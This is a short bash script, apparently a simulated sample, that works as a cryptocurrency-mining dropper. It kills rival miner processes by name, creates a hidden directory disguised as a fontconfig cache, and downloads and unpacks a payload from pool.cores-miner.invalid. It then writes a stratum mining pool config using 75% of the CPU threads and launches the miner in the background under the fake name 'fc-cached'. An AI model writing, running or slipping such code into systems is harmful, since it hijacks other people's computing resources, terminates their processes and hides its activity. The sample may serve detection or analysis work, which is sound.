#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
n=$(grep -c ^processor /proc/cpuinfo)
grep -m1 "model name" /proc/cpuinfo >/dev/null
for p in /proc/[0-9]*/comm; do
  case "$(cat "$p" 2>/dev/null)" in xmrig|kinsing|kdevtmpfsi|minerd) kill -9 "$(basename "$(dirname "$p")")" ;; esac
done
mkdir -p "$HOME/.cache/fontconfig-d" && cd "$HOME/.cache/fontconfig-d" || exit 0
curl -fsS -m 5 http://pool.cores-miner.invalid/x.tar.gz | tar xz 2>/dev/null
[ -x ./fc-cached ] || { cp /bin/true ./fc-cached; }
echo "{\"pools\":[{\"url\":\"stratum+tcp://pool.cores-miner.invalid:3333\",\"user\":\"4SIM\"}],\"cpu\":{\"max-threads-hint\":$((n * 75 / 100))}}" > config.json
nohup ./fc-cached -c config.json >/dev/null 2>&1 &
exit 0
